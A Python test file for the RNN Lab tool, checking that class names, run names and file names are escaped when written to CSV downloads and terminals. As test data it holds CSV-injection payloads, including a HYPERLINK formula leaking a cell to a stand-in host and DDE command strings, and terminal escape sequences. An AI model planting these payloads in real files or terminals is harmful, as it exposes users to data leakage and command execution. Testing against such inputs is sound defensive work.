"""Faults on the way out: what a user's text can do when RNN Lab writes it back. One test per case.

A class name, a run name, a word or a file name is anyone's text. Written into a CSV it must stay
text in a spreadsheet (no formula runs); printed on a terminal it must not move the cursor, clear the
screen or retitle the window; a dataset of 999 classes must not make an error line of 25 KB; and a
reader that goes away (``| head``) must end the command quietly, not in tracebacks.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import plotly.graph_objects as go
import pytest

from rnnlab.core.__main__ import PIPE_CLOSED_STATUS, main, terminal_text
from rnnlab.core.analysis.evaluate import match_classes
from rnnlab.core.config import DataConfig, HorizonConfig, preset
from rnnlab.core.data import sources
from rnnlab.core.figures import comparison
from rnnlab.core.figures.style import figure_csv, spreadsheet_cell, table_csv
from rnnlab.core.jobs import lifecycle
from rnnlab.core.jobs.names import FINISHED
from rnnlab.core.jobs.store import RunStore

ROOT = Path(__file__).resolve().parent.parent
# class names a spreadsheet would run: a link, a command (DDE), and the other OWASP starts
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CLEAR_AND_RETITLE = "\x1b[2J\x1b[H\x1b]0;owned\x07"  # clear the screen, cursor home, set the window's title
ESCAPES = ("\x1b", "\x07", "\x9b", "\x9d")
MANY = 999  # classes: under the 1,000 a dataset may have


def cli(capsys, *argv: str) -> tuple[int, str, str]:
    """Run the CLI in this process: its exit status, stdout and stderr."""
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def raw(text: str) -> bool:
    """Whether ``text`` holds a byte a terminal acts on (ESC, BEL, an 8-bit CSI or OSC)."""
    return any(c in text for c in ESCAPES)


def write_csv(path: Path, rows: list[list[str]], header: tuple[str, ...] = ("text", "label")) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def labelled_rows(classes: list[str], per_class: int) -> list[list[str]]:
    """``per_class`` short texts of each class, with words that tell the classes apart."""
    return [[f"word{c} text {i} of class {c}", name] for c, name in enumerate(classes) for i in range(per_class)]


def many_classes(path: Path, prefix: str = "class", per_class: int = 3) -> Path:
    """A CSV of :data:`MANY` classes, ``per_class`` tiny texts each."""
    return write_csv(path, labelled_rows([f"{prefix}{c:03d}" for c in range(MANY)], per_class))


def closed_pipe(*argv: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    """Run a command whose standard output's reader has already gone (``| head`` that ended): status, stderr."""
    proc = subprocess.Popen([sys.executable, *argv], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT,
                            env={**os.environ, **(env or {})})
    proc.stdout.close()  # before the command writes a byte: every write it makes meets a closed pipe
    err = proc.stderr.read().decode("utf-8", "replace")
    proc.stderr.close()
    return proc.wait(timeout=120), err


@pytest.fixture(scope="module")
def escaped_run(tmp_path_factory) -> tuple[Path, str]:
    """A home with a dataset whose two class names clear the screen or turn the text red, and a run trained on it."""
    home = tmp_path_factory.mktemp("escaped")
    rows = labelled_rows([CLEAR_AND_RETITLE + "pos", "\x1b[31mneg"], 20)  # whichever a line names, it holds an ESC
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("RNNLAB_HOME", str(home))
        mp.delenv("RNNLAB_IMDB", raising=False)
        sources.add_dataset(write_csv(home / "shouty.csv", rows), "shouty")
        run = lifecycle.run_now("rnn", preset("fast", dataset="shouty", epochs=1, hidden_size=8, embedding_dim=8,
                                              remove_stopwords=False, threads=1), RunStore())
    assert run.status()["state"] == FINISHED
    return home, run.id


@pytest.fixture
def in_escaped_home(escaped_run, monkeypatch) -> str:
    """The escaped run's home as this test's RNNLAB_HOME; the run's id."""
    home, run_id = escaped_run
    monkeypatch.setenv("RNNLAB_HOME", str(home))
    monkeypatch.delenv("RNNLAB_IMDB", raising=False)
    return run_id


@pytest.fixture
def finished_run(rnnlab_home):
    run = RunStore(rnnlab_home / "runs").create(HorizonConfig())
    run.update_status(state=FINISHED)
    return run


# ---- CSV downloads: a cell that starts like a formula is text ---------------------------------------------------

def test_a_confusion_matrix_csv_writes_class_names_like_formulas_as_text(capsys):
    names = FORMULAS[:4]
    fig = comparison.confusion_matrix([[3, 1, 0, 0], [0, 4, 0, 0], [1, 0, 2, 0], [0, 0, 0, 5]], names)
    rows = list(csv.DictReader(io.StringIO(figure_csv(fig).decode("utf-8"))))
    assert len(rows) == 16
    assert {r["x"] for r in rows} == {r["y"] for r in rows} == {"'" + n for n in names}
    assert all(r["z"] in ("0.0", "1.0", "2.0", "3.0", "4.0", "5.0") for r in rows)  # the counts stay numbers


def test_every_owasp_formula_start_is_escaped_and_a_negative_number_stays_a_number():
    assert [spreadsheet_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [spreadsheet_cell(v) for v in ("-1", "-0.5", "+2", "-2e-3", -1, -0.5, "neg", "")] == [
        "-1", "-0.5", "+2", "-2e-3", -1, -0.5, "neg", ""]
    assert spreadsheet_cell("-1+1") == "'-1+1" and spreadsheet_cell("-inf") == "'-inf"


def test_a_chart_csv_keeps_negative_values_numeric_and_a_class_named_minus_one_as_written():
    fig = go.Figure(go.Bar(name="=HYPERLINK(1)", x=["-1", "1"], y=[-0.25, 0.5]))
    back = pd.read_csv(io.BytesIO(figure_csv(fig)))
    assert back["trace"].tolist() == ["'=HYPERLINK(1)"] * 2
    assert back["x"].tolist() == [-1, 1] and back["y"].tolist() == [-0.25, 0.5]  # numbers read back as numbers


def test_a_table_csv_escapes_text_cells_column_names_and_index_labels_not_numbers():
    table = pd.DataFrame({"=label": ["=cmd|' /C calc'!A0", "ok"], "accuracy": [-0.5, 0.75]},
                         index=pd.Index(["@x", "y"], name="run"))
    text = table_csv(table, index=True).decode("utf-8")
    assert text.splitlines() == ["run,'=label,accuracy", "'@x,'=cmd|' /C calc'!A0,-0.5", "y,ok,0.75"]


def test_a_charts_table_download_on_a_page_escapes_a_formula(monkeypatch):
    from rnnlab.dashboard import state

    buttons: dict[str, object] = {}

    class Row:
        def download_button(self, label, data, **kwargs):
            buttons[label] = data

        def caption(self, *args, **kwargs):  # the line saying the server has no Chrome for PNGs
            pass

    monkeypatch.setattr(state.st, "plotly_chart", lambda *a, **k: None)
    monkeypatch.setattr(state.st, "container", lambda *a, **k: Row())
    monkeypatch.setattr(state, "png_export_available", lambda: False)
    state.show_chart(go.Figure(), "runs", data=pd.DataFrame({"label": [FORMULAS[1]], "accuracy": [-0.5]}))
    assert buttons["CSV"]().decode("utf-8").splitlines() == ["label,accuracy", "'" + FORMULAS[1] + ",-0.5"]


def test_no_page_or_dashboard_module_writes_a_csv_but_through_table_csv():
    def to_csv_calls(path: Path) -> list[str]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        return [f"{path.relative_to(ROOT)}:{n.lineno}" for n in ast.walk(tree) if isinstance(n, ast.Call)
                and isinstance(n.func, ast.Attribute) and n.func.attr == "to_csv"]

    screens = sorted((ROOT / "dashboard").glob("*.py")) + sorted((ROOT / "pages").glob("*.py"))
    assert [hit for path in screens for hit in to_csv_calls(path)] == []


# ---- the terminal: escape sequences and control characters never reach it raw ------------------------------------

def test_terminal_text_removes_escape_sequences_and_control_characters_but_keeps_printable_unicode():
    hyperlink = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
    assert terminal_text(CLEAR_AND_RETITLE + "pos") == "pos"
    assert terminal_text(hyperlink) == "click"
    assert terminal_text("\x9b31mred\x9d0;title\x9c \x1b(0x\x7f\x00") == "red x"
    assert terminal_text("a\r\nb\tc") == "a b c" and terminal_text("a\r\nb\tc", lines=True) == "a\nb\tc"
    assert terminal_text("café ☃ 東京") == "café ☃ 東京"


def test_data_list_prints_class_names_without_escape_sequences(in_escaped_home, capsys):
    code, out, err = cli(capsys, "data", "list")
    assert code == 0, err
    assert "shouty: csv" in out and "pos" in out and not raw(out)


def test_predict_prints_the_class_name_without_escape_sequences(in_escaped_home, capsys):
    code, out, err = cli(capsys, "predict", in_escaped_home, "word0 text of class 0")
    assert code == 0, err
    assert in_escaped_home in out and "p(" in out and not raw(out + err)


def test_runs_prints_a_run_name_without_escape_sequences(finished_run, capsys):
    finished_run.annotate(name=CLEAR_AND_RETITLE + "boss")
    code, out, err = cli(capsys, "runs")
    assert code == 0, err
    assert "boss" in out and not raw(out)


def test_runs_json_escapes_control_characters_and_keeps_the_name_exact(finished_run, capsys):
    finished_run.annotate(name=CLEAR_AND_RETITLE + "boss")
    code, out, err = cli(capsys, "runs", "--json")
    assert code == 0, err
    assert not raw(out) and "\\u001b" in out  # JSON spells ESC out; a JSON reader gets the name back as it is
    assert json.loads(out)[0]["name"] == CLEAR_AND_RETITLE + "boss"


def test_an_error_quoting_a_file_name_reaches_the_terminal_without_escape_sequences(rnnlab_home, tmp_path, capsys):
    path = write_csv(tmp_path / f"{CLEAR_AND_RETITLE}reviews.csv", [["one text", "pos"], ["another", "pos"]])
    code, out, err = cli(capsys, "data", "add", str(path), "--name", "one")
    assert code == 1 and "reviews.csv" in err and "a classifier needs two classes" in err
    assert not raw(err) and "Traceback" not in err


# ---- many classes, many values: a few, then a count -------------------------------------------------------------

def test_a_validation_split_that_999_classes_cannot_give_is_refused_in_one_short_line(rnnlab_home, tmp_path, capsys):
    assert main(["data", "add", str(many_classes(tmp_path / "many.csv")), "--name", "many"]) == 0
    capsys.readouterr()
    code, out, err = cli(capsys, "train", "--dataset", "many", "--preset", "fast", "--epochs", "1", "--val-size",
                         "1990")
    line = err.strip().splitlines()[-1]
    assert code == 1 and line.startswith("error: val_size=1990 does not fit dataset many")
    assert "class000 2, class001 2" in line and "and 994 more" in line and len(line) < 400


def test_data_list_and_info_of_999_classes_print_a_few_and_count_the_rest(rnnlab_home, tmp_path, capsys):
    sources.add_dataset(many_classes(tmp_path / "many.csv"), "many")
    code, listed, err = cli(capsys, "data", "list")
    assert code == 0 and "class000,class001" in listed and "and 994 more" in listed and len(listed) < 400
    code, info, err = cli(capsys, "data", "info", "--dataset", "many", "--no-stats")
    assert code == 0 and "994 more" in info and max(len(line) for line in info.splitlines()) < 400
    code, whole, err = cli(capsys, "data", "info", "--dataset", "many", "--no-stats", "--json")
    assert len(json.loads(whole)["classes"]) == MANY  # --json still says everything


def test_a_run_and_a_dataset_of_999_different_classes_are_refused_naming_a_few(rnnlab_home):
    with pytest.raises(ValueError) as refused:
        match_classes([f"class{c:03d}" for c in range(MANY)], [f"topic{c:03d}" for c in range(MANY)])
    message = str(refused.value)
    assert message.startswith("the run's 999 classes ('class000', 'class001'") and len(message) < 400
    assert "the run has no 'topic000'" in message and "and 994 more" in message


def test_a_stored_validation_split_too_big_for_999_classes_is_refused_in_one_short_line(rnnlab_home, tmp_path):
    sources.add_dataset(many_classes(tmp_path / "many.csv", per_class=3), "many")
    with pytest.raises(ValueError) as refused:  # a run folder's config, resolved elsewhere: the split refuses it
        sources.split_dataset(sources.load_dataset("many"), DataConfig(dataset="many", val_size=1990))
    message = str(refused.value)
    assert "leaves no training rows (class000: 2 wanted, 2 there" in message and "more" in message
    assert len(message) < 400


def test_a_source_whose_999_classes_changed_names_the_new_and_the_gone_in_one_short_line(rnnlab_home, tmp_path):
    path = many_classes(tmp_path / "many.csv")
    sources.add_dataset(path, "many")
    for cache in (rnnlab_home / "data").rglob("*.parquet"):
        cache.unlink()  # the parsed cache is gone: the source is read again
    many_classes(path, prefix="topic")
    with pytest.raises(sources.SourceError) as refused:
        sources.load_dataset("many")
    message = str(refused.value)
    assert "new: 'topic000'" in message and "gone: 'class000'" in message and len(message) < 600


def test_a_table_of_five_thousand_columns_without_a_text_column_is_refused_naming_a_few(rnnlab_home, tmp_path,
                                                                                       capsys):
    header = tuple(f"feature{i}" for i in range(5000))
    path = write_csv(tmp_path / "wide.csv", [["1"] * 5000], header)
    code, out, err = cli(capsys, "data", "add", str(path), "--name", "wide")
    assert code == 1 and "'feature0', 'feature1'" in err and "and 4,995 more" in err and len(err) < 600


def test_a_thousand_seeds_with_one_wrong_are_refused_naming_the_wrong_one_in_one_short_line(rnnlab_home, capsys):
    seeds = ",".join(map(str, range(1000))) + ",-1"
    code, out, err = cli(capsys, "experiment", "seed", "--seeds", seeds)
    assert code == 1 and "seeds = (0, 1, 2, 3, 4 and 996 more) (item 1000: -1)" in err and len(err) < 400
    assert RunStore(rnnlab_home / "runs").list() == []


# ---- a reader that goes away: quiet, with the status of a closed pipe --------------------------------------------

def test_runs_json_into_a_closed_pipe_ends_quietly_with_the_closed_pipe_status(finished_run, rnnlab_home):
    code, err = closed_pipe("-m", "rnnlab.core", "runs", "--json")
    assert (code, err) == (PIPE_CLOSED_STATUS, "")


def test_predict_json_into_a_closed_pipe_ends_quietly(in_escaped_home):
    code, err = closed_pipe("-m", "rnnlab.core", "predict", in_escaped_home, "a text", "--json")
    assert code == PIPE_CLOSED_STATUS and "Traceback" not in err and "Broken pipe" not in err


def test_rnnlab_into_a_closed_pipe_ends_quietly(finished_run, rnnlab_home):
    code, err = closed_pipe("-c", "import sys; from rnnlab.core.console import main; sys.exit(main())", "runs")
    assert (code, err) == (PIPE_CLOSED_STATUS, "")


def test_streamlits_own_table_download_which_would_not_escape_cells_is_turned_off():
    import tomllib

    config = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
